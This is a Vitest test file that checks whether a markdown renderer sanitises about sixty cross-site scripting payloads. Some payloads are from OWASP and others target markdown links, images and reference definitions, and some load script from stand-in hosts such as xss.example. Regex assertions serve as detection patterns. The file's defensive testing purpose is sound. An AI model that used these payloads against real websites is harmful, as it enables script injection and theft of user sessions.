import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

/**
 * A corpus of cross-site scripting payloads, most from the OWASP XSS Filter Evasion Cheat Sheet,
 * plus markdown-specific ones (links, images, autolinks, reference definitions).
 */
const payloads = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
	'<script\x20type="text/javascript">javascript:alert(1);</script>',
	'<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
	'<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
	'<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>',
	'</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
	'<img src=x onerror=alert(1)>',
	'<IMG SRC="javascript:alert(\'XSS\');">',
	"<IMG SRC=JaVaScRiPt:alert('XSS')>",
	'<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
	'<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
	'<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
	'<IMG SRC=# onmouseover="alert(\'xxs\')">',
	'<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
	'<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
	'<IMG SRC="jav\tascript:alert(\'XSS\');">',
	'<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
	'<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
	"<BODY ONLOAD=alert('XSS')>",
	'<svg onload=alert(1)>',
	"<svg/onload=alert('XSS')>",
	'<iframe src="https://evil.example"></iframe>',
	'<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
	'<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
	'<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
	'<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
	'<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
	'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
	'<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
	'<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
	'<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
	'<div style="background:url(javascript:alert(1))">x</div>',
	'<DIV STYLE="width: expression(alert(\'XSS\'));">',
	'<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
	'<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
	'<a href="javascript:alert(1)">x</a>',
	'<A HREF="javascript:document.location=\'http://www.example.com/\'">XSS</A>',
	'<a href="jav&#x09;ascript:alert(1)">x</a>',
	'<p onclick="alert(1)">x</p>',
	'<BGSOUND SRC="javascript:alert(\'XSS\');">',
	'<BR SIZE="&{alert(\'XSS\')}">',
	'<BASE HREF="javascript:alert(\'XSS\');//">',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<form action="https://evil.example"><button>go</button></form>',
	'<details open ontoggle=alert(1)>',
	'<video><source onerror="alert(1)">',
	'<marquee onstart=alert(1)>',
	'[click](javascript:alert(1))',
	'[click](JaVaScRiPt:alert(1))',
	'[click](  javascript:alert(1)  )',
	'[click](javascript&#58;alert(1))',
	'[click](&#x6A;avascript:alert(1))',
	'[click](vbscript:msgbox(1))',
	'[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[x](//evil.example)',
	'[ref]\n\n[ref]: javascript:alert(1)',
	'<javascript:alert(1)>',
	'![x](https://evil.example/track.png)',
	'![x](javascript:alert(1))',
	'[![x](https://evil.example/a.png)](https://example.org)',
	'`<script>` is fine in code, and so is <code onmouseover=alert(1)>x</code>',
	'**bold<script>alert(1)</script>**'
];

describe('renderMarkdown', () => {
	it('renders ordinary markdown', () => {
		const html = renderMarkdown(
			'# Title\n\nSome **bold** and [a link](https://example.org).\n\n- one\n- two'
		);
		expect(html).toContain('<h2>Title</h2>'); // h1 shifted down: the page owns its h1
		expect(html).toContain('<strong>bold</strong>');
		expect(html).toMatch(
			/<a href="https:\/\/example.org" rel="nofollow noopener noreferrer">a link<\/a>/
		);
		expect(html).toContain('<li>one</li>');
	});

	it('has a corpus of more than 30 payloads', () => {
		expect(payloads.length).toBeGreaterThan(30);
	});

	it.each(payloads)('neutralises %s', (payload) => {
		const html = renderMarkdown(payload);
		expect(html).not.toMatch(
			/<(script|img|svg|iframe|frame|frameset|style|form|math|button|input|link|meta|object|embed|base|body|video|source|details|marquee|bgsound)\b/i
		);
		expect(html).not.toMatch(/<[^>]*\son[a-z!#$%&()*~+\-_.,:;?@[\]/|\\^`]*\s*=/i); // escaped text may mention it; no tag has it
		expect(html).not.toMatch(/<[^>]*\s(style|background|src)\s*=/i);
		expect(html).not.toMatch(/href="\s*(javascript|data|vbscript)/i);
		expect(html).not.toMatch(/href="[^"]*(&#|&colon;)/i);
		expect(html).not.toMatch(/href="\/\//);
	});
});

describe('renderMarkdown’s cache', () => {
	it('gives the same HTML for the same text, fresh or remembered, and forgets nothing it should not', () => {
		const source = `**bold** <script>alert(1)</script> ${Math.random()}`;
		const first = renderMarkdown(source);
		expect(renderMarkdown(source)).toBe(first);
		expect(first).not.toContain('<script');
		// Far more text than the cache holds: older entries make way, results stay right.
		for (let i = 0; i < 60; i++) renderMarkdown(`${i} ${'x'.repeat(100_000)}`);
		expect(renderMarkdown(source)).toBe(first);
	});

	it('renders empty text, twice (an agenda item without a description)', () => {
		expect(renderMarkdown('')).toBe('');
		expect(renderMarkdown('')).toBe('');
	});
});
